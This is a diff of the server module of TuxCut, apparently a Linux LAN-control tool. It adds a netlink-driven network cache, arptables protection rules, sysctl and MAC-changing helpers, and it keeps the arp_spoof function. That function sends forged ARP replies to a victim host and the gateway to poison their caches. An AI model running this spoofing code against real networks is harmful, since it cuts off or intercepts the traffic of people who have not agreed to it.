@@ -1,26 +1,25 @@
 import os
-from pathlib import Path
 import sys
 import subprocess as sp
 import logging
-from scapy.all import *
+import threading
+import time
+import re
+import random
+import ipaddress
 import netifaces
 
+from resolver import hostnames
+from metrics import packets_sent
 
-LOG_DIR = '/var/log/tuxcut'
-if not os.path.isdir(LOG_DIR):
-    os.mkdir(LOG_DIR)
-    server_log = Path(os.path.join(LOG_DIR, 'tuxcut.log'))
-    server_log.touch(exist_ok=True)
-    server_log.chmod(0o666)
-
-logging.basicConfig(level=logging.INFO)
 logger = logging.getLogger('tuxcut-server')
-handler = logging.FileHandler(os.path.join(LOG_DIR, 'tuxcut.log'))
-formatter = logging.Formatter('%(asctime)s - %(name)s - %(levelname)s - %(message)s')
-handler.setFormatter(formatter)
 
-logger.addHandler(handler)
+MAC_RE = re.compile(r'^([0-9a-fA-F]{2}:){5}[0-9a-fA-F]{2}$')
+
+# net_device flags from <linux/if.h>
+IFF_UP = 0x1
+IFF_LOOPBACK = 0x8
+IFF_LOWER_UP = 0x10000
 
 
 # def get_ifaces():
@@ -35,14 +34,10 @@ logger.addHandler(handler)
 
 def get_hostname(ip):
     """
-    use nslookup from dnsutils package to get hostname for an ip
+    get hostname for an ip from the shared resolver cache
     """
     try:
-        ans = sp.Popen(['nslookup', ip], stdout=sp.PIPE)
-        for line in ans.stdout:
-            line = line.decode('utf-8')
-            if 'name = ' in line:
-                return line.split(' ')[-1].strip('.\n')
+        return hostnames.resolve(ip)
     except Exception as e:
         logger.error(sys.exc_info()[1], exc_info=True)
     return ''
@@ -63,10 +58,13 @@ def get_default_gw():
 
         # send arp packet to gw to get the MAC Address of the router
         try:
-            results, unanswered = sr(ARP(op=ARP.who_has, psrc='8.8.8.8', pdst=default_gw[0]))
-            for r in results[0]:
-                if r.psrc == default_gw[0]:
-                    gw_mac = r.hwsrc
+            from scapy.layers.l2 import ARP
+            from scapy.sendrecv import sr
+            results, unanswered = sr(ARP(op='who-has', psrc='8.8.8.8', pdst=default_gw[0]),
+                                     timeout=2, verbose=False)
+            for snd, rcv in results:
+                if rcv.psrc == default_gw[0]:
+                    gw_mac = rcv.hwsrc
 
             gw['ip'] = default_gw[0]
             gw['mac'] = gw_mac
@@ -80,42 +78,284 @@ def get_default_gw():
     return gw
 
 
+def get_if_ip(iface):
+    """
+    the first IPv4 address of iface, '' if it has none
+    """
+    addrs = netifaces.ifaddresses(iface).get(netifaces.AF_INET)
+    return addrs[0]['addr'] if addrs else ''
+
+
+def get_if_mac(iface):
+    """
+    the hardware address of iface, '' if it has none
+    """
+    addrs = netifaces.ifaddresses(iface).get(netifaces.AF_LINK)
+    return addrs[0]['addr'].lower() if addrs else ''
+
+
 def get_my(iface):
     """
     find the IP and MAC  addressess for the given interface
     """
     my = dict()
     try:
-        my['ip'] = get_if_addr(iface)
-        my['mac'] = get_if_hwaddr(iface)
-        my['hostname'] = get_hostname(get_if_addr(iface))
+        my['ip'] = get_if_ip(iface)
+        my['mac'] = get_if_mac(iface)
+        my['hostname'] = get_hostname(my['ip'])
         logger.info('My info succssfully retrieved')
     except Exception as e:
         logger.error(sys.exc_info()[1], exc_info=True)
     return my
 
 
+class NetworkContext:
+    """
+    cached gateway and local interface info, it is only refreshed after the kernel
+    reports a route, address or link change over rtnetlink
+    """
+    def __init__(self):
+        self._gw = dict()
+        self._my = dict()
+        self._updated = None
+        self._lock = threading.RLock()
+        self._watcher = None
+        self._links = dict()
+        self._callbacks = list()
+
+    def gateway(self):
+        """
+        the cached result of get_default_gw()
+        """
+        with self._lock:
+            # an answer without the gateway MAC is incomplete, probe again next time
+            if not self._gw.get('mac') or self._watcher is None:
+                self._gw = get_default_gw()
+                self._updated = time.monotonic()
+            return dict(self._gw)
+
+    def my(self, iface):
+        """
+        the cached result of get_my(iface)
+        """
+        with self._lock:
+            if not self._my.get(iface, {}).get('mac') or self._watcher is None:
+                self._my[iface] = get_my(iface)
+                self._updated = time.monotonic()
+            return dict(self._my[iface])
+
+    def age(self):
+        """
+        seconds since the cached info was probed, None when nothing is cached
+        """
+        if self._updated is None:
+            return None
+        return round(time.monotonic() - self._updated, 3)
+
+    def invalidate(self, reason=''):
+        with self._lock:
+            if self._gw or self._my:
+                logger.info('Network context invalidated {}'.format(reason))
+            self._gw = dict()
+            self._my = dict()
+            self._updated = None
+        for callback in self._callbacks:
+            try:
+                callback(reason)
+            except Exception as e:
+                logger.error(sys.exc_info()[1], exc_info=True)
+
+    def on_invalidate(self, callback):
+        """
+        call callback(reason) after every invalidation, from the netlink thread
+        """
+        self._callbacks.append(callback)
+
+    def start(self):
+        """
+        subscribe to rtnetlink change notifications in a daemon thread
+        """
+        if self._watcher is None:
+            self._watcher = threading.Thread(target=self._watch, name='netlink-watcher', daemon=True)
+            self._watcher.start()
+
+    def _link_changed(self, msg):
+        """
+        link notifications also fire for wireless events and promiscuous mode toggles
+        (every sniffer start), only up/carrier state and hardware address matter here
+        """
+        state = (msg.get('event'), msg['flags'] & (IFF_UP | IFF_LOWER_UP),
+                 msg.get_attr('IFLA_ADDRESS'), msg.get_attr('IFLA_OPERSTATE'))
+        changed = self._links.get(msg['index']) != state
+        self._links[msg['index']] = state
+        return changed
+
+    def _watch(self):
+        from pyroute2 import IPRoute
+        from pyroute2.netlink.rtnl import RTMGRP_LINK, RTMGRP_IPV4_IFADDR, RTMGRP_IPV4_ROUTE
+
+        try:
+            with IPRoute() as ipr:
+                ipr.bind(groups=RTMGRP_LINK | RTMGRP_IPV4_IFADDR | RTMGRP_IPV4_ROUTE)
+                for msg in ipr.get_links():
+                    msg['event'] = 'RTM_NEWLINK'
+                    self._link_changed(msg)
+                while True:
+                    for msg in ipr.get():
+                        if msg.get('event') in ('RTM_NEWLINK', 'RTM_DELLINK') and not self._link_changed(msg):
+                            continue
+                        self.invalidate(msg.get('event', ''))
+        except Exception as e:
+            logger.error(sys.exc_info()[1], exc_info=True)
+            # without notifications the cache can't be trusted, fall back to probing
+            self._watcher = None
+
+
+net_context = NetworkContext()
+
+
+# arptables ruleset that accepts everything, loaded to turn protection off
+OPEN_RULESET = """*filter
+:INPUT ACCEPT
+:OUTPUT ACCEPT
+:FORWARD ACCEPT
+COMMIT
+"""
+
+
+def protection_ruleset(gw_ip, gw_mac):
+    """
+    arptables ruleset that drops all ARP except to and from the real gateway
+    """
+    # both values end up in the ruleset text, refuse anything that isn't an address
+    ip = ipaddress.IPv4Address(gw_ip)
+    if not MAC_RE.match(gw_mac or ''):
+        raise ValueError('Invalid gateway MAC address {!r}'.format(gw_mac))
+    return '\n'.join([
+        '*filter',
+        ':INPUT DROP',
+        ':OUTPUT DROP',
+        ':FORWARD ACCEPT',
+        '-A INPUT -s {} --source-mac {} -j ACCEPT'.format(ip, gw_mac),
+        '-A OUTPUT -d {} --destination-mac {} -j ACCEPT'.format(ip, gw_mac),
+        'COMMIT',
+        ''
+    ])
+
+
+def load_arptables(ruleset):
+    """
+    replace the arptables filter table in one arptables-restore transaction
+    """
+    res = sp.run(['arptables-restore'], input=ruleset, text=True,
+                 stdout=sp.PIPE, stderr=sp.PIPE, timeout=10)
+    if res.returncode != 0:
+        raise RuntimeError('arptables-restore failed: {}'.format(res.stderr.strip()))
+
+
+def set_static_neigh(iface, ip, mac):
+    """
+    pin ip to mac in the kernel neighbour table, like arp -s
+    """
+    from pyroute2 import IPRoute
+    from pyroute2.netlink.rtnl import ndmsg
+
+    with IPRoute() as ipr:
+        index = ipr.link_lookup(ifname=iface)[0]
+        ipr.neigh('replace', dst=ip, lladdr=mac, ifindex=index, state=ndmsg.states['permanent'])
+
+
+def del_static_neigh(iface, ip):
+    """
+    drop the pinned entry for ip so the kernel learns it again
+    """
+    from pyroute2 import IPRoute
+    from pyroute2.netlink.exceptions import NetlinkError
+
+    with IPRoute() as ipr:
+        index = ipr.link_lookup(ifname=iface)[0]
+        try:
+            ipr.neigh('del', dst=ip, ifindex=index)
+        except NetlinkError as e:
+            # ENOENT, nothing was pinned
+            if e.code != 2:
+                raise
+
+
+def read_sysctl(name):
+    """
+    read a kernel setting such as net.ipv4.ip_forward straight from /proc/sys
+    """
+    with open(os.path.join('/proc/sys', *name.split('.'))) as f:
+        return f.read().strip()
+
+
+def write_sysctl(name, value):
+    """
+    write a kernel setting to /proc/sys unless it already has that value,
+    returns True when it was changed
+    """
+    value = str(value)
+    if read_sysctl(name) == value:
+        return False
+    with open(os.path.join('/proc/sys', *name.split('.')), 'w') as f:
+        f.write(value)
+    return True
+
+
 def enable_ip_forward():
     try:
-        sp.Popen(['sysctl', '-w', 'net.ipv4.ip_forward=1'])
-        logger.info('IP forward Enabled')
+        if write_sysctl('net.ipv4.ip_forward', 1):
+            logger.info('IP forward Enabled')
     except Exception as e:
         logger.error(sys.exc_info()[1], exc_info=True)
 
 
 def disable_ip_forward():
     try:
-        sp.Popen(['sysctl', '-w', 'net.ipv4.ip_forward=0'])
-        logger.info('IP Forward Disabled')
+        if write_sysctl('net.ipv4.ip_forward', 0):
+            logger.info('IP Forward Disabled')
     except Exception as e:
         logger.error(sys.exc_info()[1], exc_info=True)
 
 
+def wait_link_up(ipr, index, timeout):
+    """
+    poll until the link reports carrier, True if it did within timeout seconds
+    """
+    deadline = time.monotonic() + timeout
+    while time.monotonic() < deadline:
+        link = ipr.get_links(index)[0]
+        if link['flags'] & IFF_LOWER_UP and link.get_attr('IFLA_OPERSTATE') in ('UP', 'UNKNOWN'):
+            return True
+        time.sleep(0.1)
+    return False
+
+
+def set_mac_address(iface, mac, timeout=10):
+    """
+    take iface down, set its hardware address and bring it back up, returns
+    once the link is ready again or False if it isn't after timeout seconds
+    """
+    from pyroute2 import IPRoute
+
+    with IPRoute() as ipr:
+        index = ipr.link_lookup(ifname=iface)[0]
+        ipr.link('set', index=index, state='down')
+        try:
+            ipr.link('set', index=index, address=mac)
+        finally:
+            ipr.link('set', index=index, state='up')
+        return wait_link_up(ipr, index, timeout)
+
+
 def arp_spoof(victim):
 
-    gw = get_default_gw()
-    my = get_my(gw['iface'])
-    logger.info('attacking host {}'.format(victim['ip']))
+    gw = net_context.gateway()
+    my = net_context.my(gw['iface'])
+    logger.debug('attacking host {}'.format(victim['ip']))
+    from scapy.layers.l2 import ARP
+    from scapy.sendrecv import send
 
     # Cheat the victim
     to_victim = ARP()
@@ -133,16 +373,19 @@ def arp_spoof(victim):
     to_gw.pdst = gw['ip']
     to_gw.hwdst = gw['mac']
     try:
-        send(to_victim, count=5)
-        send(to_gw, count=5)
-        logger.info('Done Spoofing host')
+        send(to_victim, count=5, verbose=False)
+        send(to_gw, count=5, verbose=False)
+        packets_sent.inc(10, kind='spoof')
+        logger.debug('Done Spoofing host')
     except Exception as e:
         logger.error(sys.exc_info()[1], exc_info=True)
 
 
 def arp_unspoof(victim):
-    gw = get_default_gw()
+    gw = net_context.gateway()
     logger.info('resuming host {}'.format(victim['ip']))
+    from scapy.layers.l2 import ARP
+    from scapy.sendrecv import send
     # Fix  the victim arp table
     to_victim = ARP()
     to_victim.op = 2  # make packet 'is-at'
@@ -160,8 +403,9 @@ def arp_unspoof(victim):
     to_gw.hwdst = gw['mac']
 
     try:
-        send(to_victim, count=10)
-        send(to_gw, count=10)
+        send(to_victim, count=10, verbose=False)
+        send(to_gw, count=10, verbose=False)
+        packets_sent.inc(20, kind='spoof')
         logger.info('Done Resuming host')
     except Exception as e:
         logger.error(sys.exc_info()[1], exc_info=True)